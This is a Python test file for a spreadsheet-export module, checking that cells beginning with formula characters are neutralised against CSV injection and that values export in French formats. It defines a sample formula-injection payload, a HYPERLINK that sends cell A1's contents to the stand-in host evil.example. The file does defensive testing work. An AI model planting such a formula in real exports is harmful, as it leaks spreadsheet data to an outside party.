"""Spreadsheet exports open correctly in French spreadsheet software and never
carry a formula (CSV injection)."""

import csv
import datetime
import io
import zoneinfo

import pytest

from core.exports import csv_cell, neutralise

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_turned_into_text(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_cells_are_left_alone_and_values_read_in_french():
    assert neutralise("Annie Le Goff") == "Annie Le Goff"
    assert (csv_cell(True), csv_cell(False), csv_cell(None), csv_cell(3)) == ("oui", "non", "", "3")
    moment = datetime.datetime(2026, 7, 1, 12, 0, tzinfo=datetime.UTC)
    assert csv_cell(moment) == "2026-07-01 14:00"  # Paris summer time, in ISO order
    assert csv_cell(moment.astimezone(zoneinfo.ZoneInfo("Asia/Tokyo"))) == "2026-07-01 14:00"


def read_export(response):
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(response):
    """The rows of an .xlsx export read back by openpyxl: (value, is a date) per cell."""
    import openpyxl

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[(cell.value, cell.is_date) for cell in row] for row in sheet.iter_rows()]
